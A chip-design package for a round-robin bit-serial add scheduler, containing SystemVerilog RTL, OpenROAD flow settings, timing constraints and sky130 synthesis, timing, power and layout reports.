## src/rtl/serial_add_pkg.sv

```systemverilog
// serial_add_pkg
//   Shared definitions for the bit-serial add scheduler: default geometry and
//   the controller state encoding.
package serial_add_pkg;

  localparam int DEF_WIDTH   = 8;
  localparam int DEF_NUM_REQ = 4;

  typedef enum logic [1:0] {
    S_IDLE = 2'd0,
    S_RUN  = 2'd1,
    S_DONE = 2'd2
  } state_t;

endpackage

```

## src/rtl/serial_fa_slice.sv

```systemverilog
// serial_fa_slice
//   Combinational 1-bit full adder; the single datapath slice shared by all
//   requesters of serial_add_scheduler.
// Ports
//   a, b  : operand bits
//   cin   : carry in
//   sum   : a ^ b ^ cin
//   cout  : carry out
module serial_fa_slice (
  input  logic a,
  input  logic b,
  input  logic cin,
  output logic sum,
  output logic cout
);

  assign sum  = a ^ b ^ cin;
  assign cout = (a & b) | (cin & (a ^ b));

endmodule

```

## src/rtl/serial_add_scheduler.sv

```systemverilog
// serial_add_scheduler
//   Round-robin arbiter plus sequencer that shares one bit-serial full adder
//   among NUM_REQ requesters. A granted request is added LSB-first over WIDTH
//   cycles with a registered carry; the result is offered on a valid/ready port.
// Ports
//   clk, rst         : clock, asynchronous active-high reset
//   req_valid/ready  : per-requester handshake; req_ready is one-hot, IDLE only
//   req_a/req_b      : packed operands, requester i at [i*WIDTH +: WIDTH]
//   req_cin          : per-requester carry in
//   rsp_valid/ready  : response handshake
//   rsp_sum/cout/id  : result, carry out and granted requester index
//   busy             : high while an operation is in RUN or DONE
module serial_add_scheduler
  import serial_add_pkg::*;
#(
  parameter int  WIDTH   = DEF_WIDTH,
  parameter int  NUM_REQ = DEF_NUM_REQ,
  localparam int ID_W    = $clog2(NUM_REQ)
) (
  input  logic                     clk,
  input  logic                     rst,
  input  logic [NUM_REQ-1:0]       req_valid,
  output logic [NUM_REQ-1:0]       req_ready,
  input  logic [NUM_REQ*WIDTH-1:0] req_a,
  input  logic [NUM_REQ*WIDTH-1:0] req_b,
  input  logic [NUM_REQ-1:0]       req_cin,
  output logic                     rsp_valid,
  input  logic                     rsp_ready,
  output logic [WIDTH-1:0]         rsp_sum,
  output logic                     rsp_cout,
  output logic [ID_W-1:0]          rsp_id,
  output logic                     busy
);

  localparam int CNT_W = $clog2(WIDTH);

  state_t            state_r, state_nxt_s;
  logic [ID_W-1:0]   rr_ptr_r, rr_nxt_s, grant_id_s, id_r;
  logic [ID_W:0]     cand_s;
  logic              grant_any_s, hit_s;
  logic              accept_s, last_bit_s;
  logic [WIDTH-1:0]  a_r, b_r, sum_r;
  logic              carry_r, cout_r;
  logic [CNT_W-1:0]  bit_cnt_r;
  logic              fa_sum_s, fa_cout_s;
  logic              rsp_valid_r, busy_r;

  serial_fa_slice u_fa (
    .a    (a_r[0]),
    .b    (b_r[0]),
    .cin  (carry_r),
    .sum  (fa_sum_s),
    .cout (fa_cout_s)
  );

  // Round-robin search starting at rr_ptr; the candidate index wraps without
  // needing NUM_REQ to be a power of two.
  always_comb begin
    grant_any_s = 1'b0;
    grant_id_s  = {ID_W{1'b0}};
    cand_s      = {(ID_W+1){1'b0}};
    hit_s       = 1'b0;
    for (int k = 0; k < NUM_REQ; k++) begin
      cand_s      = {1'b0, rr_ptr_r} + (ID_W+1)'(k);
      cand_s      = (cand_s >= (ID_W+1)'(NUM_REQ)) ? cand_s - (ID_W+1)'(NUM_REQ) : cand_s;
      hit_s       = ~grant_any_s & req_valid[cand_s[ID_W-1:0]];
      grant_id_s  = hit_s ? cand_s[ID_W-1:0] : grant_id_s;
      grant_any_s = grant_any_s | hit_s;
    end
  end

  // One-hot accept, only offered while idle
  always_comb begin
    req_ready = {NUM_REQ{1'b0}};
    if (state_r == S_IDLE) begin
      req_ready[grant_id_s] = grant_any_s;
    end else begin
      req_ready = {NUM_REQ{1'b0}};
    end
  end

  assign accept_s   = (state_r == S_IDLE) & grant_any_s;
  assign last_bit_s = (bit_cnt_r == CNT_W'(WIDTH - 1));
  assign rr_nxt_s   = (grant_id_s == ID_W'(NUM_REQ - 1)) ? {ID_W{1'b0}} : grant_id_s + ID_W'(1);

  // Next-state logic for the IDLE -> RUN -> DONE sequence
  always_comb begin
    state_nxt_s = state_r;
    case (state_r)
      S_IDLE:  state_nxt_s = accept_s   ? S_RUN  : S_IDLE;
      S_RUN:   state_nxt_s = last_bit_s ? S_DONE : S_RUN;
      S_DONE:  state_nxt_s = rsp_ready  ? S_IDLE : S_DONE;
      default: state_nxt_s = S_IDLE;
    endcase
  end

  // State register and registered status flags
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state_r     <= S_IDLE;
      rsp_valid_r <= 1'b0;
      busy_r      <= 1'b0;
    end else begin
      state_r     <= state_nxt_s;
      rsp_valid_r <= (state_nxt_s == S_DONE);
      busy_r      <= (state_nxt_s != S_IDLE);
    end
  end

  // Operand capture, serial shift datapath and round-robin pointer
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      rr_ptr_r  <= {ID_W{1'b0}};
      a_r       <= {WIDTH{1'b0}};
      b_r       <= {WIDTH{1'b0}};
      sum_r     <= {WIDTH{1'b0}};
      carry_r   <= 1'b0;
      cout_r    <= 1'b0;
      bit_cnt_r <= {CNT_W{1'b0}};
      id_r      <= {ID_W{1'b0}};
    end else begin
      case (state_r)
        S_IDLE: begin
          if (accept_s) begin
            a_r       <= req_a[int'(grant_id_s)*WIDTH +: WIDTH];
            b_r       <= req_b[int'(grant_id_s)*WIDTH +: WIDTH];
            carry_r   <= req_cin[grant_id_s];
            id_r      <= grant_id_s;
            bit_cnt_r <= {CNT_W{1'b0}};
            rr_ptr_r  <= rr_nxt_s;
          end
        end
        S_RUN: begin
          // Sum bits enter at the MSB so the final bit lands sum_r in order.
          a_r       <= {1'b0, a_r[WIDTH-1:1]};
          b_r       <= {1'b0, b_r[WIDTH-1:1]};
          sum_r     <= {fa_sum_s, sum_r[WIDTH-1:1]};
          carry_r   <= fa_cout_s;
          bit_cnt_r <= bit_cnt_r + CNT_W'(1);
          if (last_bit_s) begin
            cout_r <= fa_cout_s;
          end
        end
        default: begin
        end
      endcase
    end
  end

  // sum_r and id_r only change in RUN/at accept, so the last result stays
  // visible while idle.
  assign rsp_valid = rsp_valid_r;
  assign busy      = busy_r;
  assign rsp_sum   = sum_r;
  assign rsp_cout  = cout_r;
  assign rsp_id    = id_r;

endmodule

```

## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = serial_add_scheduler
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/serial_add_pkg.sv /design/src/rtl/serial_fa_slice.sv /design/src/rtl/serial_add_scheduler.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 30
export CORE_MARGIN = 4
export CORE_UTILIZATION = 45
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_16
export DETAILED_ROUTE_END_ITERATION = 8
export HOLD_SLACK_MARGIN = 0.06
export PLACE_DENSITY = 0.85
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```

## constraint.sdc

```tcl
create_clock -name clk -period 7.3 [get_ports clk]
set_input_delay 2.19 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 2.19 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
```

Yosys cells after proc, flatten, opt, wreduce, memory -nomap -nowiden. Index checks and enable logic that the tools add are counted.

Register bits: 37. Bits in latches: 0. RAM bits: 0. ROM bits: 0. Bits of input ports: 75. Output and inout bits: 17. Memories: 0.

$add $sub $neg: 9. Multiply operators: 0. Divide/modulo/power cells: 0. Magnitude comparators: 10. Equal/unequal tests: 6. Shifts and indexed selects: 2. Muxes and demuxes: 34. Bitwise operators: 16. Reductions and logical operators: 7.

Operator list (number): 32-bit by 6-bit indexed part select with 8-bit output (2); 8-bit one-hot mux with 2 select lines (2); 2-bit 2-to-1 mux (11); 8-bit 2-to-1 mux (2); 2-bit by 3-bit < comparator with 1-bit output (second input constant) (5); 1-bit binary-select mux with 2-bit select (5); 3-bit >= comparator (second input constant) (3); 1-bit 2-to-1 mux (8); 2-bit by 1-bit subtractor with 2-bit output (second input constant) (4); 2-bit by 2-bit adder with 3-bit output (second input constant) (2); 1-bit bitwise AND (6); 2-bit equality test (second input constant) (3); 2-bit one-hot mux with 3 select lines (1); 3-bit one-hot mux with 2 select lines (1); 2-bit AND reduction (3); 4-bit bitwise AND (1); 4-bit 2-to-1 mux (1); 1-bit OR (4); 2-bit nonzero test (2); 2-bit by 1-bit adder with 3-bit output (second input constant) (1); 3-bit by 1-bit adder with 3-bit output (second input constant) (1); 3-bit equality test (second input constant) (1); 2-bit by 3-bit >= comparator with 1-bit output (second input constant) (1); 3-bit 2-to-1 mux (1); other kinds (10) (13).

Depth between registers and ports, before layout.
Word-level depth: 19. Depth in mapped cells: 9. Gate-level depth less buffers: 7.

Modules after synthesis. A second synthesis with hierarchy kept.

Cells, all modules: 244. Area total of the unflattened synthesis: 2274.7 um^2.

By module, submodules not included: serial_add_scheduler (times used 1, cells each 243, area an instance 2254.7 um^2, seq. area each 925.9 um^2); serial_fa_slice (times used 1, cells each 1, area an instance 20.0 um^2, seq. area each 0.0 um^2).

Least setup slack after synthesis. OpenSTA, ideal clock, no wires.

Kind: input-to-output. From: in req_valid[2]. To: out req_ready[3]. Arrival: 3307 ps. Slack: 1803 ps. Stages on the path: 7. Path through: nor2b_1 -> nor2b_1 -> or3_1 -> buf_2 -> inv_2 -> ha_1 -> and2_1.

Cells in the longest elaborated chain, start to end: 17. Elaborated cells between the ends (all ways): 28. Those cells by class: order compare (2); mux (15); bitwise (10); reduce/logical (1).

Ends and longest elaborated chain: from (decl) (RTL line serial_add_scheduler.sv:22) `input logic [NUM_REQ-1:0] req_valid,`; 1-bit binary-select mux with 2-bit select (RTL line serial_add_scheduler.sv:66) `hit_s = ~grant_any_s & req_valid[cand_s[ID_W-1:0]];`; 1-bit 2-to-1 mux (not written as such) (RTL line serial_add_scheduler.sv:66); 1-bit inverter (RTL line serial_add_scheduler.sv:66); 1-bit bitwise AND (RTL line serial_add_scheduler.sv:66); 1-bit OR (RTL line serial_add_scheduler.sv:68) `grant_any_s = grant_any_s | hit_s;`; 1-bit inverter (RTL line serial_add_scheduler.sv:66); 1-bit bitwise AND (RTL line serial_add_scheduler.sv:66); 1-bit OR (RTL line serial_add_scheduler.sv:68); 1-bit inverter (RTL line serial_add_scheduler.sv:66); 1-bit bitwise AND (RTL line serial_add_scheduler.sv:66); 2-bit 2-to-1 mux (RTL line serial_add_scheduler.sv:67) `grant_id_s = hit_s ? cand_s[ID_W-1:0] : grant_id_s;`; 2-bit by 3-bit < comparator with 1-bit output (not written as such) / 2-bit by 1-bit >= comparator with 1-bit output (equally long branches) (RTL line serial_add_scheduler.sv:76) `req_ready[grant_id_s] = grant_any_s;`; 1-bit logical AND (not written as such) (RTL line serial_add_scheduler.sv:76); 1-bit 2-to-1 mux (not written as such) (RTL line serial_add_scheduler.sv:76); 1-bit demux with 2-bit select (RTL line serial_add_scheduler.sv:76); 4-bit bitwise AND (no line) (*); 4-bit 2-to-1 mux (*) (RTL line serial_add_scheduler.sv:75) `if (state_r == S_IDLE) begin`; to (decl) (RTL line serial_add_scheduler.sv:23) `output logic [NUM_REQ-1:0] req_ready,`.

Mark *: on every way between the ends. The rest lies on a longest branch, timed or not. The select of a mux whose other input is x is not followed.

Final worst setup path. Same ends and word-level chain as after synthesis.

==> metrics.yaml <==
status:
  run_status: "completed"
yosys:
  post_synth.cell_area_avg_sq_um: 10.1
  synth_enable_flop_cells: 0
  synth.lib_cells_used.distinct: 47
  synth-compound-area-share_pct: 26.8
  postSynthNetCount: 286
  synth_seq_area_share_pct: 44.3
  synth_top_family_by_area: "compound AO/OA/AOI/OAI gates"
  async_s_r_ff_share_synth_pct: 100
  ys_seq_elements: 37
  synth_simple_gate_area_share_pct: 12.3
  netlist_area_sq_um: 2090
  synth_cells: 207
  synth_xor_area_share_pct: 0
  synth.mux.area_fraction_pct: 8.68
  yosysWarningCount: 0
  synth_top_flop_cell: "sky130_fd_sc_hd__dfrtp_1"
  synth-adder-area-share_pct: 2.75
power:
  vdd.ir_drop.worst_uv: 152
  power.density_cell_area_nw_per_um2: 347
  p_sw_share_pct: 35.5
  share_seq_of_total_power_pct: 32.3
  share_comb_of_total_power_pct: 45.8
  static-leakage-power_uw: 0.00141
  power_frac_clock_pct: 21.8
  power_report.internal_total_uw: 713
  power.switching_uw: 391
detailed_routing:
  avgRoutedWirePerCell_um: 16.9
  total_via_count_after_detailed_routing: 2058
  detailedRoute.firstIterationViolations: 229
  drt_pass1_iterations: 6
  drt_antenna_net_count: 0
  wl_um: 5910
  post-route-drc-count: 0
  drt-vias-per-instance: 5.88
cells_and_area:
  num-fill-cells: 314
  area.growth.synth_to_final_pct: 52.4
  antennaDiodeCount: 0
  multi_input_area_sq_um: 1060
  layout_commonest_cell: "sky130_fd_sc_hd__clkdlybuf4s50_1"
  final_net_count: 376
  ff_latch_area_sq_um: 926
  finalNonFillerCells: 350
  layout-drive-gt1-share_pct: 9.06
  final_core_util_pct: 72.2
  leading_cell_types_in_the_layout_fill_and_taps_excluded: "sky130_fd_sc_hd__clkdlybuf4s50_1, sky130_fd_sc_hd__nand2_1, sky130_fd_sc_hd__dfrtp_1, sky130_fd_sc_hd__mux2i_1, sky130_fd_sc_hd__a222oi_1"
clocking:
  numClockSinks: 37
  tritoncts.num_buffers: 5
  clock_tree.root_cell: "sky130_fd_sc_hd__clkbuf_16"
  clk_pin_slew_ns: 0.05
  clock_tree_from_tritoncts: "yes"
  insertion_delay_ns: 0.28
  post_cts_resize_count: 0
  clock_tree.buffer_depth: 2
  cts_hold_buf: 0
  clock_tree.htree_level_count: 2
  cts.repair_timing.setup_buffer_count: 0
sta:
  final.hold.worst_slack_ns: 0.476
  finalWorstPathRequiredPeriod_ns: 6.60
  timing.final.hold_violations: 0
  skew_ns: 0.00533
  rsz0062_at_grt: "false"
  finalSetupTns_ns: 0
  max_slew_margin_pct: 55.8
  max_freq_mhz: 151
  min_period_over_period_pct: 90.5
  max_slew.worst_pin.slew_ns: 0.657
  final-max-slew-violation-count: 0
  finalSetupViolations: 0
floorplanning:
  die_h_um: 76.2
  io-pin-count: 92
  dieArea_sq_um: 5800
  core_area_sq_um: 4410
  initial_core_util_pct: 47.4
  dieWidth_um: 76.2
  placementRows: 24
global_routing:
  grt_pass1_wl_um: 9780
  largest_net_degree_at_the_start_of_global_routing: 38
  first_global_vias: 2101
  track_usage_pct: 20.2
  grt_overflow: 0
  number_of_antenna_violations_at_the_first_check_in_global_routing: 0
setup_path:
  cp.arrival_ns: 4.41
  startpoint_type: "primary input"
  crit_fanout: 8
  critPathKind: "primary input to output port"
  cp-startpoint: "req_valid[2]"
  r2r-start: "rr_ptr_r[1]"
  worstPathRequired_ns: 5.11
  critical_path.endpoint_type: "output port"
placed_design:
  hpwlAfterDp_um: 4290
  port_buffers: 91
  gp_congestion: 0.830
  placed_cell_count: 342
flow_run:
  timing.max_cap.violations: 0
hold_path:
  worst_hold_path_type: "flop to flop"
  hold_sp: "rsp_id[1]"
-- through the flow --
step / worst slack [ns] / total power, uW / instance area [sq um]
2_1_floorplan: 1.80 / 682 / 2090
3_3_place_gp: 0.819 / 850 / 3020
3_5_place_dp: 0.765 / 863 / 3020
4_1_cts: 0.688 / 1110 / 3190
5_1_grt: 0.572 / 1180 / 3190
6_report: 0.697 / 1100 / 3190
-- logic make-up after synthesis --
logic type,Yosys count
buffers and inverters,18
AND/OR/NAND/NOR,57
adder cells (fa/ha/maj),4
multiplexers,18
flip-flops,37
AO/OA/AOI/OAI,73
-- registers in the layout (all words and copies together) (netlist names), 2 cells and up --
signal	count
a_r	8
rr_ptr_r	2
rsp_id	2
state_r	2
b_r	8
bit_cnt_r	3
rsp_sum	8
-- per-layer routing --
layer  GRT usage [%]  up-vias  part of all wire [%]
li1                -      967                     -
met1            26.9      964                    40
met2            33.0      115                    49
met3            4.37       12                   8.5
met4            5.94        0                   1.7
met5               0        -                     0
-- area by class of cell --
type / instances / share of cell area [%]
multi-input cells: 152 / 33.2
repair buffers: 97 / 30.0
flip-flops and latches: 37 / 29.1
clock buffers: 5 / 3.93
well taps: 52 / 2.04
clock inverters: 3 / 1.30
inverters: 4 / 0.471
-- Yosys cell counts (3+ instances only) --
master                     number  share of area, %
sky130_fd_sc_hd__a21oi_1        4              0.96
sky130_fd_sc_hd__a222oi_1      13               6.2
sky130_fd_sc_hd__a22o_1         8               3.4
sky130_fd_sc_hd__a22o_2         7               3.4
sky130_fd_sc_hd__buf_2          5               1.2
sky130_fd_sc_hd__clkbuf_1       4              0.72
sky130_fd_sc_hd__dfrtp_1       37                44
sky130_fd_sc_hd__ha_1           3               1.8
sky130_fd_sc_hd__inv_1          3              0.54
sky130_fd_sc_hd__mux2i_1       17               8.1
sky130_fd_sc_hd__nand2_1       37               6.6
sky130_fd_sc_hd__nor2_1         5              0.90
sky130_fd_sc_hd__nor2b_1        3              0.90
sky130_fd_sc_hd__o21ai_0       12               2.9
sky130_fd_sc_hd__o21ai_1        9               2.2
-- critical path, cell delays in order --
cell                              delay, ns
sky130_fd_sc_hd__clkdlybuf4s50_1       0.62
sky130_fd_sc_hd__nor2b_1               0.26
sky130_fd_sc_hd__a221oi_1              0.14
sky130_fd_sc_hd__nor2_1                0.32
sky130_fd_sc_hd__ha_1                  0.22
sky130_fd_sc_hd__and2_1                0.12
sky130_fd_sc_hd__clkdlybuf4s50_1       0.54
-- power groups by stage --
| stage | clock (uW) | combinational (uW) | sequential (uW) |
|---|---|---|---|
| after global routing | 253 | 561 | 369 |
| after floorplan | 0 | 326 | 356 |
| after global placement | 0 | 493 | 356 |
| after CTS | 244 | 509 | 356 |
| final | 241 | 506 | 357 |
| after detailed placement | 0 | 504 | 358 |
-- path summary, 6_finish.rpt --
kind,end,slack [ns],cells after the start
max in group asynchronous,b_r[5],4.64,3
min in group asynchronous,rsp_id[0],2.33,3
worst max register to register,a_r[6],5.14,5
worst min-delay path,rsp_id[1],0.48,2
worst min register to register,rsp_id[1],0.48,2
worst max-delay path,req_ready[3],0.70,7
No activity file was read; power rests on OpenSTA's default activity.
